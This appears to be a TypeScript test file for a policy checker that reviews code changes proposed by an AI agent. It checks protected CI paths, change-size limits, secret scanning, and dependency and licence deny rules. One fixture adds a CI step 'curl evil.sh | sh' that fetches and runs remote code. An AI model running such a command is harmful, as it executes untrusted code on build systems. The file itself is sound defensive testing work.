import { generateKeyPairSync, randomInt } from 'node:crypto';
import { evaluateChange, mask, type CandidateChange, type ChangedFile } from './change-evaluation';
import { localEffectivePolicy, mergePolicy, type EffectivePolicy } from './effective-policy';
import { parsePolicyDocument, type PolicyDocumentInput } from './policy-document';

const ALPHANUMERIC = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const randomText = (length: number, alphabet = ALPHANUMERIC) => Array.from({ length }, () => alphabet[randomInt(alphabet.length)]).join('');

// Secret-shaped values are built at run time so that the repository itself holds none
// (push protection scanners would rightly refuse it).
const githubToken = () => `ghp_${randomText(36)}`;
// A real (throwaway) key, generated for the test: the scanner checks the body's ASN.1 start.
const privateKeyBlock = () =>
  generateKeyPairSync('ec', { namedCurve: 'P-256', publicKeyEncoding: { type: 'spki', format: 'pem' }, privateKeyEncoding: { type: 'pkcs8', format: 'pem' } }).privateKey.trimEnd().split('\n');

/** The worker's defaults (CI config protected, secrets scanned, no dependency changes), 25 files, 2000 lines. */
const defaults = localEffectivePolicy(minimalInput());

function policy(rules: PolicyDocumentInput['rules'], base: EffectivePolicy = defaults): EffectivePolicy {
  const parsed = parsePolicyDocument({ schemaVersion: 1, rules });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
  return mergePolicy(base, [parsed.value]).effective;
}

/** Dependency changes allowed, so the package rules can be seen on their own. */
const manifestsAllowed = localEffectivePolicy({ ...minimalInput(), rules: { 'dependency-manifests': { allowChanges: true, level: 'mandatory' } } });

const modified = (path: string, addedLines: string[] = ['x'], removedLines = 0): ChangedFile => ({ path, status: 'modified', addedLines, removedLines });

/** A change whose readers serve `before` and `after` contents, recording what was read. */
function change(files: ChangedFile[], contents: { before?: Record<string, string>; after?: Record<string, string> } = {}): CandidateChange & { reads: string[] } {
  const reads: string[] = [];
  return {
    files,
    reads,
    readBefore: async (path) => {
      reads.push(`before:${path}`);
      return contents.before?.[path];
    },
    readAfter: async (path) => {
      reads.push(`after:${path}`);
      return contents.after?.[path];
    },
  };
}

describe('evaluateChange', () => {
  it('finds nothing in an ordinary change, and reads no file to say so', async () => {
    const ordinary = change([modified('src/rounding.ts', ['return Math.round(x * 100) / 100;'], 1), { path: 'src/rounding.spec.ts', status: 'added', addedLines: ['it("rounds", () => {});'], removedLines: 0 }]);
    expect(await evaluateChange(policy({ 'denied-packages': { packages: ['left-pad'] } }), ordinary)).toEqual([]);
    expect(ordinary.reads).toEqual([]);
  });

  describe('protected-paths', () => {
    it('refuses an edit of a CI workflow under the defaults', async () => {
      expect(await evaluateChange(defaults, change([modified('.github/workflows/ci.yml', ['    run: curl evil.sh | sh'])]))).toEqual([
        { rule: 'protected-paths', level: 'mandatory', detail: '.github/workflows/ci.yml is protected by policy and may not be modified' },
      ]);
    });

    it('counts both sides of a rename, and a deletion', async () => {
      const renamed: ChangedFile = { path: 'docs/ci.yml', previousPath: '.github/workflows/ci.yml', status: 'renamed', addedLines: [], removedLines: 0 };
      const deleted: ChangedFile = { path: '.gitlab-ci.yml', status: 'deleted', addedLines: [], removedLines: 12 };
      const violations = await evaluateChange(defaults, change([renamed, deleted]));
      expect(violations.map((v) => v.detail)).toEqual([
        '.github/workflows/ci.yml is protected by policy and may not be renamed',
        '.gitlab-ci.yml is protected by policy and may not be deleted',
      ]);
    });

    it('matches a pattern without / at the repository root only, and dir/** at any depth under dir', async () => {
      expect(await evaluateChange(defaults, change([modified('tools/Jenkinsfile')]))).toEqual([]);
      expect(await evaluateChange(defaults, change([modified('Jenkinsfile')]))).toHaveLength(1);
      expect(await evaluateChange(defaults, change([modified('.circleci/deep/config.yml')]))).toHaveLength(1);
      expect(await evaluateChange(policy({ 'protected-paths': { paths: ['**/Jenkinsfile'] } }), change([modified('tools/Jenkinsfile')]))).toHaveLength(1);
    });

    it('ignores case, so that a case-insensitive file system cannot reach a protected folder by another spelling', async () => {
      expect(await evaluateChange(defaults, change([modified('.GitHub/Workflows/ci.yml')]))).toHaveLength(1);
    });

    it('carries the level of the rule', async () => {
      const advisory = localEffectivePolicy({ ...minimalInput(), rules: { 'protected-paths': { paths: ['deploy/**'], level: 'advisory' } } });
      expect(await evaluateChange(advisory, change([modified('deploy/prod.tf'), modified('.github/workflows/ci.yml')]))).toEqual([
        { rule: 'protected-paths', level: 'advisory', detail: 'deploy/prod.tf is protected by policy and may not be modified' },
      ]);
    });
  });

  describe('max-files-changed and max-lines-changed', () => {
    // The config's limits are mandatory; an advisory one is built directly to see the level carried.
    const limits: EffectivePolicy = { ...policy({ 'max-files-changed': { max: 2 } }), maxLinesChanged: { max: 10, level: 'advisory' } };

    it('allow a change at the limits', async () => {
      expect(await evaluateChange(limits, change([modified('a.ts', ['1', '2', '3'], 2), modified('b.ts', ['1', '2'], 3)]))).toEqual([]);
    });

    it('refuse one file and one line more, counting added and removed lines over all files', async () => {
      expect(await evaluateChange(limits, change([modified('a.ts', ['1', '2', '3'], 2), modified('b.ts', ['1', '2'], 3), modified('c.ts', [], 1)]))).toEqual([
        { rule: 'max-files-changed', level: 'mandatory', detail: 'the change touches 3 files; at most 2 are allowed' },
        { rule: 'max-lines-changed', level: 'advisory', detail: 'the change adds and removes 11 lines; at most 10 are allowed' },
      ]);
    });
  });

  describe('secrets', () => {
    it('finds a GitHub token in the added lines and never repeats it', async () => {
      const token = githubToken();
      const violations = await evaluateChange(defaults, change([modified('src/config.ts', ['export const config = {', `  githubToken: '${token}',`, '};'])]));
      expect(violations).toEqual([{ rule: 'secrets', level: 'mandatory', detail: 'src/config.ts adds what looks like a secret: GITHUB_TOKEN at added line 2 (ghp_…)' }]);
      expect(JSON.stringify(violations)).not.toContain(token);
      expect(JSON.stringify(violations)).not.toContain(token.slice(4));
    });

    it('finds a private key block and keeps none of it', async () => {
      const block = privateKeyBlock();
      const violations = await evaluateChange(defaults, change([{ path: 'certs/server.pem', status: 'added', addedLines: block, removedLines: 0 }]));
      expect(violations).toHaveLength(1);
      expect(violations[0]).toMatchObject({ rule: 'secrets', level: 'mandatory' });
      expect(violations[0]!.detail).toMatch(/^certs\/server\.pem adds what looks like a secret: \S+ at added line 1 \(----…\)$/);
      for (const line of block.slice(1, -1)) expect(violations[0]!.detail).not.toContain(line);
    });

    it('is not silenced by a secretlint-disable comment the model could write', async () => {
      const violations = await evaluateChange(defaults, change([modified('src/config.ts', [`const t = '${githubToken()}'; // secretlint-disable-line`])]));
      expect(violations.map((v) => v.rule)).toEqual(['secrets']);
    });

    it('scans only what the change adds, and nothing when the rule is off', async () => {
      expect(await evaluateChange(defaults, change([modified('src/config.ts', ['const token = process.env.GITHUB_TOKEN;'], 1)]))).toEqual([]);
      const off = localEffectivePolicy({ ...minimalInput(), rules: { secrets: { enabled: false, level: 'mandatory' } } });
      expect(await evaluateChange(off, change([modified('src/config.ts', [`const t = '${githubToken()}';`])]))).toEqual([]);
    });

    it('masks all but the first four characters, and all of a short value', () => {
      expect(mask('ghp_0123456789abcdef')).toBe('ghp_…');
      expect(mask('hunter2')).toBe('…');
    });
  });

  describe('dependency-manifests', () => {
    it.each(['package.json', 'services/api/package-lock.json', 'requirements-dev.txt', 'py/requirements.txt', 'Cargo.lock', 'go.sum', 'src/App/App.csproj', 'Gemfile', 'build.gradle.kts', 'yarn.lock'])(
      'refuses a change to %s by default',
      async (path) => {
        expect(await evaluateChange(defaults, change([modified(path)]))).toEqual([
          { rule: 'dependency-manifests', level: 'mandatory', detail: `${path} is a dependency manifest or lockfile and may not be modified` },
        ]);
      },
    );

    it('does not take other files for manifests', async () => {
      expect(await evaluateChange(defaults, change([modified('src/package.ts'), modified('docs/requirements.md'), modified('go.mod.md')]))).toEqual([]);
    });

    it('allows manifest changes when the rule allows them', async () => {
      expect(await evaluateChange(manifestsAllowed, change([modified('package.json'), modified('Cargo.toml')]))).toEqual([]);
    });
  });

  describe('denied-packages', () => {
    const denyLeftPad = (base: EffectivePolicy = manifestsAllowed) => policy({ 'denied-packages': { packages: ['left-pad', 'evil-crate'] } }, base);

    it('refuses a package.json that adds a denied package, in any dependency section', async () => {
      const before = JSON.stringify({ name: 'app', dependencies: { express: '^4.19.0' } }, null, 2);
      const after = JSON.stringify({ name: 'app', dependencies: { express: '^4.19.0' }, devDependencies: { 'left-pad': '^1.3.0' } }, null, 2);
      expect(await evaluateChange(denyLeftPad(), change([modified('package.json', ['    "left-pad": "^1.3.0"'])], { before: { 'package.json': before }, after: { 'package.json': after } }))).toEqual([
        { rule: 'denied-packages', level: 'mandatory', detail: 'package.json adds denied package left-pad' },
      ]);
    });

    it('sees through an npm alias', async () => {
      const after = JSON.stringify({ dependencies: { pad: 'npm:left-pad@1.3.0' } });
      expect(await evaluateChange(denyLeftPad(), change([{ path: 'package.json', status: 'added', addedLines: [after], removedLines: 0 }], { after: { 'package.json': after } }))).toEqual([
        { rule: 'denied-packages', level: 'mandatory', detail: 'package.json adds denied package left-pad' },
      ]);
    });

    it('leaves a denied package the base already had to the people who added it', async () => {
      const text = JSON.stringify({ dependencies: { 'left-pad': '^1.3.0', lodash: '^4.17.21' } });
      const bumped = JSON.stringify({ dependencies: { 'left-pad': '^1.3.1', lodash: '^4.17.21' } });
      expect(await evaluateChange(denyLeftPad(), change([modified('package.json')], { before: { 'package.json': text }, after: { 'package.json': bumped } }))).toEqual([]);
    });

    it('refuses a package-lock.json that installs a denied package, however deep', async () => {
      const lock = (packages: Record<string, unknown>) => JSON.stringify({ name: 'app', lockfileVersion: 3, requires: true, packages: { '': { name: 'app' }, ...packages } });
      const before = lock({ 'node_modules/express': { version: '4.19.2', license: 'MIT' } });
      const after = lock({ 'node_modules/express': { version: '4.19.2', license: 'MIT' }, 'node_modules/express/node_modules/left-pad': { version: '1.3.0', license: 'WTFPL' } });
      expect(await evaluateChange(denyLeftPad(), change([modified('package-lock.json')], { before: { 'package-lock.json': before }, after: { 'package-lock.json': after } }))).toEqual([
        { rule: 'denied-packages', level: 'mandatory', detail: 'package-lock.json adds denied package left-pad' },
      ]);
    });

    it('compares requirements.txt names as PyPI does (PEP 503), whatever the spelling', async () => {
      const before = 'requests==2.32.3\n';
      const after = ['requests==2.32.3', 'Left_Pad==1.0  # pads strings', '-r requirements-base.txt', '--hash=sha256:abc', 'https://example.com/pkg.whl', ''].join('\n');
      expect(await evaluateChange(denyLeftPad(), change([modified('requirements.txt')], { before: { 'requirements.txt': before }, after: { 'requirements.txt': after } }))).toEqual([
        { rule: 'denied-packages', level: 'mandatory', detail: 'requirements.txt adds denied package Left_Pad' },
      ]);
      expect(await evaluateChange(denyLeftPad(), change([modified('requirements-dev.txt')], { before: {}, after: { 'requirements-dev.txt': 'left.pad>=1 ; python_version > "3.8"' } }))).toHaveLength(1);
    });

    it('reads Cargo.toml dependency tables: plain, dev, build, per target and the one-crate table form', async () => {
      const before = ['[package]', 'name = "app"', 'version = "0.1.0"', '', '[dependencies]', 'serde = { version = "1", features = ["derive"] }', ''].join('\n');
      const withKey = (table: string, line: string) => `${before}\n[${table}]\n${line}\n`;
      const cases = [
        withKey('dependencies', 'left_pad = "1.0"'),
        withKey('dev-dependencies', '"left-pad" = { version = "1" }'),
        withKey('build-dependencies', 'Left-Pad.workspace = true'),
        withKey("target.'cfg(unix)'.dependencies", 'left-pad = "1"'),
        `${before}\n[dependencies.evil-crate]\nversion = "0.1"\n`,
      ];
      for (const after of cases) {
        const violations = await evaluateChange(denyLeftPad(), change([modified('Cargo.toml')], { before: { 'Cargo.toml': before }, after: { 'Cargo.toml': after } }));
        expect(violations.map((v) => v.rule)).toEqual(['denied-packages']);
      }
      // A key of another table, or a commented-out line, is no dependency.
      const notDependencies = `${before}\n[features]\nleft-pad = []\n[dependencies]\n# left-pad = "1"\n`;
      expect(await evaluateChange(denyLeftPad(), change([modified('Cargo.toml')], { before: { 'Cargo.toml': before }, after: { 'Cargo.toml': notDependencies } }))).toEqual([]);
    });

    it('reports both rules when dependency changes are forbidden too', async () => {
      const after = JSON.stringify({ dependencies: { 'left-pad': '1.3.0' } });
      const violations = await evaluateChange(denyLeftPad(defaults), change([{ path: 'package.json', status: 'added', addedLines: [after], removedLines: 0 }], { after: { 'package.json': after } }));
      expect(violations.map((v) => v.rule)).toEqual(['dependency-manifests', 'denied-packages']);
    });
  });

  describe('denied-licenses', () => {
    const lock = (packages: Record<string, unknown>) => JSON.stringify({ lockfileVersion: 3, packages: { '': { name: 'app' }, ...packages } });
    const denyAgpl = policy({ 'denied-licenses': { licenses: ['AGPL-3.0-only'] } }, manifestsAllowed);
    const base = lock({ 'node_modules/express': { version: '4.19.2', license: 'MIT' } });
    const evaluate = (packages: Record<string, unknown>) =>
      evaluateChange(denyAgpl, change([modified('package-lock.json')], { before: { 'package-lock.json': base }, after: { 'package-lock.json': lock({ 'node_modules/express': { version: '4.19.2', license: 'MIT' }, ...packages }) } }));

    it('refuses a package-lock.json that adds an AGPL package', async () => {
      expect(await evaluate({ 'node_modules/pdf-engine': { version: '2.0.0', license: 'AGPL-3.0-only' } })).toEqual([
        { rule: 'denied-licenses', level: 'mandatory', detail: 'package-lock.json adds packages under a denied licence: pdf-engine (AGPL-3.0-only)' },
      ]);
    });

    it('reads SPDX expressions conservatively: any denied id counts, in any case, -or-later included', async () => {
      expect(await evaluate({ 'node_modules/dual': { version: '1.0.0', license: '(MIT OR agpl-3.0-or-later)' } })).toEqual([
        { rule: 'denied-licenses', level: 'mandatory', detail: 'package-lock.json adds packages under a denied licence: dual (agpl-3.0-or-later)' },
      ]);
      expect(await evaluate({ 'node_modules/gpl': { version: '1.0.0', license: 'GPL-3.0-only WITH GCC-exception-3.1' }, 'node_modules/lgpl': { version: '1.0.0', license: 'LGPL-3.0-only' } })).toEqual([]);
    });

    it('leaves packages the base already had', async () => {
      const agplBase = lock({ 'node_modules/pdf-engine': { version: '2.0.0', license: 'AGPL-3.0-only' } });
      const upgraded = lock({ 'node_modules/pdf-engine': { version: '2.1.0', license: 'AGPL-3.0-only' } });
      expect(await evaluateChange(denyAgpl, change([modified('package-lock.json')], { before: { 'package-lock.json': agplBase }, after: { 'package-lock.json': upgraded } }))).toEqual([]);
    });
  });

  describe('a manifest that is not valid after the change', () => {
    const broken = '{ "dependencies": { "left-pad": ';

    it('is a dependency-manifests violation, saying so, when changes are forbidden', async () => {
      const deny = policy({ 'denied-packages': { packages: ['left-pad'] } });
      expect(await evaluateChange(deny, change([modified('package.json')], { before: { 'package.json': '{}' }, after: { 'package.json': broken } }))).toEqual([
        { rule: 'dependency-manifests', level: 'mandatory', detail: 'package.json is a dependency manifest or lockfile and may not be modified; it is also not valid after the change' },
      ]);
    });

    it('is left out of the package rules when changes are allowed', async () => {
      const deny = policy({ 'denied-packages': { packages: ['left-pad'] } }, manifestsAllowed);
      expect(await evaluateChange(deny, change([modified('package.json')], { before: { 'package.json': '{}' }, after: { 'package.json': broken } }))).toEqual([]);
    });
  });

  it('reads manifests only, and only for the package rules', async () => {
    const deny = policy({ 'denied-packages': { packages: ['left-pad'] } }, manifestsAllowed);
    const renamed: ChangedFile = { path: 'api/requirements.txt', previousPath: 'requirements.txt', status: 'renamed', addedLines: [], removedLines: 0 };
    const mixed = change([modified('src/a.ts'), renamed, { path: 'package.json', status: 'added', addedLines: ['{}'], removedLines: 0 }, { path: 'Cargo.toml', status: 'deleted', addedLines: [], removedLines: 3 }], {
      before: { 'requirements.txt': 'requests\n' },
      after: { 'api/requirements.txt': 'requests\n', 'package.json': '{}' },
    });
    expect(await evaluateChange(deny, mixed)).toEqual([]);
    expect(mixed.reads).toEqual(['after:api/requirements.txt', 'before:requirements.txt', 'after:package.json']);
    const noPackageRules = change([modified('package.json')]);
    await evaluateChange(manifestsAllowed, noPackageRules);
    expect(noPackageRules.reads).toEqual([]);
  });
});

function minimalInput() {
  return {
    allowedTaskKinds: ['fix' as const],
    repoAliases: ['payments-api'],
    baseRefRules: new Map(),
    endpointNames: ['gpu-a'],
    maxChangedFiles: 25,
    maxChangedLines: 2_000,
    maxJobTokens: 200_000,
    agentTimeoutMs: 1_200_000,
  };
}
